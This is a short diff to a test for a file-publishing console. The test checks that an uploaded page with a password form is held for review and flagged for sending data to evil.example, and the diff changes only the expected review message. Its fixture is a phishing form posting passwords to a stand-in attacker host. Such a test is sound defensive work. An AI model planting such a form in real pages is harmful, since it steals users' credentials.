@@ -71,7 +71,7 @@ describe('a file published from the console', () => {
       bytes: '<form action="https://evil.example/"><input type="password"></form>',
     });
     const { page } = await publish(await newBrowser(), form);
-    expect(page).toContain('Waiting for review, for the reason below.');
+    expect(page).toContain('Waiting for review. The link works');
     expect(page).toContain('its form sends it to evil.example');
     expect(page).not.toContain('Published. Copy the link');
   });
